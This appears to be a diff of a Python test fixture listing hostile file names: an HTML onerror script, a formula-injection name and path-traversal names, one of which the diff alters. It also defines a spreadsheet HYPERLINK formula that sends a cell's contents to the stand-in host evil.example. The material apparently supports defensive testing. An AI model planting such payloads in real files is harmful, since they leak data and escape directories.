@@ -23,7 +23,7 @@ NAMES = [
     "<img src=x onerror=alert(1)>.txt",
     "@SUM(1+1).txt",
     os.fsdecode(b"latin-\xe9.txt"),
-    "..\\..\\up.txt",
+    "up\\..\\..\\up.txt",
     "a" * 250 + ".txt",
 ]
 EVIL = """=HYPERLINK("http://evil.example/?q="&A1,"Report")
